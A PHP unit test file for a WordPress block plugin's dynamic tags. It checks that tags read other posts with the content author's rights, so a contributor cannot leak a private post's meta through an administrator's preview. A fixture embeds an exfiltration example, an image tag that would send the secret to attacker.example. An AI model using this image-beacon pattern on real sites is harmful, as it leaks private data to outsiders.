<?php
/**
 * DESIGN §11, the trust rule: tags read other posts with the rights of the content's author, never the
 * viewer's (issue 29, D2).
 *
 * @package GBlocks_Pro
 */

declare( strict_types=1 );

namespace GBlocks_Pro\Tests\Dynamic_Tags;

/**
 * A contributor's pending post asking for a private post's meta (`id:N`) renders nothing of it when an
 * administrator previews it, nor in the REST preview the contributor asks for; an administrator's own
 * content still reads it, for every viewer.
 */
final class Author_Rights_Test extends Dynamic_Tags_Test_Case {

	/**
	 * A private post of an administrator with a secret in its meta.
	 *
	 * @return int The post id.
	 */
	private function private_post(): int {
		$admin   = $this->create_user( 'administrator' );
		$private = $this->create_post(
			array(
				'post_author' => $admin,
				'post_status' => 'private',
			)
		);
		update_post_meta( $private, 'secret', 'TOP-SECRET' );
		return $private;
	}

	/**
	 * Content reading the private post's meta in text and in a URL (the exfiltration of the issue).
	 *
	 * @param int $private The private post.
	 */
	private static function content( int $private ): string {
		return self::paragraph( 'Leak: {{post_meta key:secret|id:' . $private . '|required:false}}' )
			. self::paragraph( '<img src="https://attacker.example/x?v={{post_meta key:secret|id:' . $private . '|required:false}}" alt=""/>' )
			. self::paragraph( 'Author: {{author_meta key:first_name|id:' . $private . '|required:false}}' );
	}

	public function test_a_contributors_pending_post_previewed_by_an_administrator_reads_nothing_of_a_private_post(): void {
		$private     = $this->private_post();
		$contributor = $this->act_as( 'contributor' );
		$response    = $this->rest(
			'POST',
			'/wp/v2/posts',
			array(
				'status'  => 'pending',
				'content' => self::content( $private ),
			)
		);
		$this->assertStatus( 201, $response );
		$post_id = (int) $response->get_data()['id'];
		$this->assertSame( $contributor, (int) get_post_field( 'post_author', $post_id ) );
		update_user_meta( (int) get_post_field( 'post_author', $private ), 'first_name', 'Ada' );

		wp_set_current_user( $this->create_user( 'administrator' ) );
		$this->assertTrue( current_user_can( 'read_post', $private ), 'the previewing administrator could read it' );
		$html = $this->render_post( $post_id );
		$this->assertStringContainsString( 'Leak: </p>', $html );
		$this->assertStringNotContainsString( 'TOP-SECRET', $html );
		$this->assertStringNotContainsString( 'Ada', $html );
	}

	public function test_the_rest_preview_judges_with_the_rights_of_the_user_asking(): void {
		$private     = $this->private_post();
		$contributor = $this->act_as( 'contributor' );
		$post_id     = $this->create_post(
			array(
				'post_author' => $contributor,
				'post_status' => 'draft',
			)
		);
		$tag         = '{{post_meta key:secret|id:' . $private . '}}';
		$response    = $this->rest(
			'POST',
			'/generateblocks-pro/v1/dynamic-tags/preview',
			array(
				'tags'   => array( $tag ),
				'postId' => $post_id,
			)
		);
		$this->assertStatus( 200, $response );
		$this->assertSame( '', ( (array) $response->get_data()['response']['values'] )[ $tag ] );

		wp_set_current_user( $this->create_user( 'administrator' ) );
		$response = $this->rest(
			'POST',
			'/generateblocks-pro/v1/dynamic-tags/preview',
			array(
				'tags'   => array( $tag ),
				'postId' => $post_id,
			)
		);
		$this->assertSame( 'TOP-SECRET', ( (array) $response->get_data()['response']['values'] )[ $tag ] );
	}

	public function test_an_administrators_own_content_still_reads_the_private_post_for_every_viewer(): void {
		$private = $this->private_post();
		$admin   = $this->act_as( 'administrator' );
		$post_id = $this->create_post(
			array(
				'post_author'  => $admin,
				'post_content' => self::content( $private ),
			)
		);

		wp_set_current_user( 0 );
		$this->assertStringContainsString( 'Leak: TOP-SECRET</p>', $this->render_post( $post_id ) );
		wp_set_current_user( $this->create_user( 'subscriber' ) );
		$this->assertStringContainsString( 'Leak: TOP-SECRET</p>', $this->render_post( $post_id ) );
	}

	public function test_an_author_reads_their_own_private_post_but_not_anothers(): void {
		$others = $this->private_post();
		$author = $this->act_as( 'author' );
		$own    = $this->create_post(
			array(
				'post_author' => $author,
				'post_status' => 'private',
			)
		);
		update_post_meta( $own, 'secret', 'MINE' );
		$post_id = $this->create_post(
			array(
				'post_author'  => $author,
				'post_content' => self::paragraph( 'Own: {{post_meta key:secret|id:' . $own . '|required:false}}' )
					. self::paragraph( 'Other: {{post_meta key:secret|id:' . $others . '|required:false}}' ),
			)
		);

		wp_set_current_user( $this->create_user( 'administrator' ) );
		$html = $this->render_post( $post_id );
		$this->assertStringContainsString( 'Own: MINE</p>', $html );
		$this->assertStringContainsString( 'Other: </p>', $html );
	}
}
